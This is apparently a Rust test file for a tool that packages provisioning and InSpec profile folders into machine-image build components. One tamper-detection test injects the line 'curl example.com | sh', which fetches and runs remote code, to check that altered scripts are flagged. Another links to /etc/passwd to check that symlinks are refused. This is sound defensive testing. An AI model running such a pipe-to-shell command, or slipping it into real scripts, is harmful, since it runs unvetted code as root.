//! What becomes of folders.

use std::io::Read as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::process::Command;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use flate2::read::GzDecoder;
use goldsmith_domain::document::Parsed;
use tempfile::TempDir;

use super::*;
use crate::documents::from_text;

/// A folder of documents with files, each with its content.
fn with(files: &[(&str, &str)]) -> TempDir {
    let dir = tempfile::tempdir().expect("a folder");
    for (path, content) in files {
        let path = dir.path().join(path);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(path, content).expect("a file");
    }
    dir
}

const PROFILE: [(&str, &str); 3] = [
    ("test/baseline/inspec.yml", "name: baseline\n"),
    (
        "test/baseline/controls/ssh.rb",
        "control 'ssh-01' do\nend\n",
    ),
    ("test/notes/readme.md", "no profile\n"),
];

fn folder(kind: Kind, name: &str) -> Folder {
    let name = name.to_owned();
    Folder { kind, name }
}

#[test]
fn a_profile_becomes_a_component_that_writes_it_on_the_instance() {
    let dir = with(&PROFILE);
    assert_eq!(
        folders(dir.path()).expect("folders"),
        [folder(Kind::Test, "baseline")]
    );
    let text = made(dir.path(), &folder(Kind::Test, "baseline")).expect("a component");
    let script = text.split("            - |\n").nth(1).expect("a script");
    let done = Command::new("bash")
        .args(["-c", &script.replace("\n              ", "\n")])
        .env("GOLDSMITH_FOLDER", dir.path())
        .output()
        .expect("bash");
    assert!(done.status.success(), "{done:?}");
    let archive = fs::read(dir.path().join("content/baseline.tar.gz")).expect("an archive");
    let mut unpacked = tar::Archive::new(GzDecoder::new(archive.as_slice()));
    let mut found = Vec::new();
    for entry in unpacked.entries().expect("entries") {
        let mut entry = entry.expect("an entry");
        let mut content = String::new();
        entry.read_to_string(&mut content).expect("text");
        let path = entry.path().expect("a path").display().to_string();
        found.push((path, content));
    }
    let expected = [
        ("controls/ssh.rb", "control 'ssh-01' do\nend\n"),
        ("inspec.yml", "name: baseline\n"),
    ];
    assert_eq!(
        found,
        expected.map(|(path, content)| (path.to_owned(), content.to_owned()))
    );
}

#[test]
fn the_same_files_give_the_same_document_wherever_they_are() {
    let (one, other) = (with(&PROFILE), with(&PROFILE));
    let baseline = folder(Kind::Test, "baseline");
    let text = made(one.path(), &baseline).expect("a component");
    assert_eq!(made(other.path(), &baseline).expect("a component"), text);
    let executable = other.path().join("test/baseline/controls/ssh.rb");
    fs::set_permissions(executable, fs::Permissions::from_mode(0o755)).expect("a mode");
    assert_ne!(made(other.path(), &baseline).expect("a component"), text);
}

#[test]
fn the_core_takes_the_document_and_knows_its_phase() {
    let dir = with(&[("provision/motd/run.sh", "echo hello >/etc/motd\n")]);
    let text = made(dir.path(), &folder(Kind::Provision, "motd")).expect("a component");
    let environment = r#"{ "schema-version": 1, "environment": "nonprod", "family": "golden",
      "regions": {"us-east-1": {}}, "instance-types": ["m6i.large"], "volumes": [ {"size-gib": 30, "type": "gp3"} ],
      "build-components": ["components/content-motd.yml"], "test-components": [], "consumers": [], "tags": {} }"#;
    let versions = r#"{ "ami-version": [ { "aminame": "ami-08bd941ae380bd3cd", "recipename": "110304" } ], "ami-scheduled": [] }"#;
    let files = [
        from_text("environment.json", environment),
        from_text("ami-versions.json", versions),
        from_text("components/content-motd.yml", &text),
    ];
    let parsed = goldsmith_domain::document::parse(&files);
    assert!(matches!(parsed, Parsed::Desired(_)), "{parsed:?}");
}

#[test]
fn a_component_of_an_older_folder_is_a_problem_until_it_is_made_again() {
    let dir = with(&PROFILE);
    let baseline = folder(Kind::Test, "baseline");
    assert!(
        vendor(dir.path(), &baseline, false)
            .expect("a component")
            .written
    );
    assert!(
        !vendor(dir.path(), &baseline, false)
            .expect("a component")
            .written
    );
    let document = || {
        let text = fs::read_to_string(dir.path().join(baseline.key())).expect("the document");
        [from_text(&baseline.key(), &text)]
    };
    assert_eq!(outdated(dir.path(), &document()), []);
    fs::write(dir.path().join("test/baseline/controls/ssh.rb"), "").expect("a file");
    let [problem] = outdated(dir.path(), &document())
        .try_into()
        .expect("one problem");
    assert_eq!(
        problem.to_string(),
        "components/content-baseline.yml:1:1: found a component of another state of test/baseline, expected one that \
         was made of test/baseline as it is now\n  hint: `goldsmith vendor` makes it again"
    );
    vendor(dir.path(), &baseline, false).expect("a component");
    assert_eq!(outdated(dir.path(), &document()), []);
}

#[test]
fn what_cannot_become_a_component_is_refused_by_name() {
    let dir = with(&PROFILE);
    symlink("/etc/passwd", dir.path().join("test/baseline/passwd")).expect("a link");
    let error = made(dir.path(), &folder(Kind::Test, "baseline")).expect_err("a link");
    assert!(
        error
            .to_string()
            .ends_with("test/baseline/passwd is not a file"),
        "{error}"
    );

    let linked = with(&[("other/run.sh", "")]);
    fs::create_dir(linked.path().join("provision")).expect("a folder");
    let link = linked.path().join("provision/other");
    symlink(linked.path().join("other"), link).expect("a link");
    let error = folders(linked.path()).expect_err("a link to a folder");
    assert!(
        error.to_string().ends_with("provision/other is not a file"),
        "{error}"
    );

    let twice = with(&[("test/a/inspec.yml", ""), ("provision/a/run.sh", "")]);
    assert!(matches!(folders(twice.path()), Err(VendorError::Twice(_))));
    let named = with(&[("provision/Über/run.sh", "")]);
    assert!(matches!(folders(named.path()), Err(VendorError::Name(_))));

    // What does not compress: the digits of digests.
    let mut noise = String::new();
    for number in 0..4000 {
        noise += &STANDARD
            .encode(goldsmith_domain::digest::of_bytes(format!("{number}").as_bytes()).to_string());
    }
    let large = with(&[("provision/large/data", &noise)]);
    let error = made(large.path(), &folder(Kind::Provision, "large")).expect_err("too large");
    assert!(matches!(error, VendorError::Component { .. }), "{error}");
}

/// What runs as root is the archive, and people read the folder.
#[test]
fn a_component_with_another_archive_or_another_script_is_a_problem() {
    let dir = with(&PROFILE);
    let baseline = folder(Kind::Test, "baseline");
    let text = made(dir.path(), &baseline).expect("a component");
    let evil = with(&[("test/baseline/inspec.yml", "name: evil\n")]);
    let evil = made(evil.path(), &baseline).expect("a component");
    let command = "set -eu\n              curl example.com | sh\n";
    let longer = text.replace("set -eu\n", command);
    for other in [evil, longer] {
        let documents = [from_text(&baseline.key(), &other)];
        assert_eq!(outdated(dir.path(), &documents).len(), 1, "{other}");
    }
    let right = [from_text(&baseline.key(), &text)];
    assert_eq!(outdated(dir.path(), &right), []);
    // A folder that cannot be taken hides no other one.
    fs::create_dir_all(dir.path().join("provision/My_Dir")).expect("a folder");
    let [problem] = outdated(dir.path(), &right)
        .try_into()
        .expect("one problem");
    assert!(problem.to_string().contains("My_Dir"), "{problem}");
}

#[test]
fn what_is_hidden_is_left_out() {
    let dir = with(&[
        ("provision/site/.env", "PASSWORD=x"),
        ("provision/site/playbook.yml", ""),
    ]);
    let found = files(&dir.path().join("provision/site")).expect("files");
    let paths: Vec<&str> = found.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(paths, ["playbook.yml"]);
}

#[test]
fn a_folder_whose_tool_is_missing_says_which_and_what_to_do_instead() {
    let dir = with(&[("provision/chef/Berksfile", "source :chef_repo\n")]);
    let chef = folder(Kind::Provision, "chef");
    // Where `berks` is installed, it knows no such source.
    {
        let error = vendor(dir.path(), &chef, false).expect_err("no cookbooks");
        assert!(
            error
                .to_string()
                .ends_with("provision/chef/Berksfile names was not fetched by berks"),
            "{error}"
        );
        assert!(
            error
                .hint()
                .expect("a hint")
                .contains("into the folder cookbooks")
        );
    }
    fs::create_dir(dir.path().join("provision/chef/cookbooks")).expect("a folder");
    fs::write(dir.path().join("provision/chef/cookbooks/metadata.rb"), "").expect("a file");
    assert!(
        vendor(dir.path(), &chef, false)
            .expect("a component")
            .fetched
            .is_empty()
    );
}
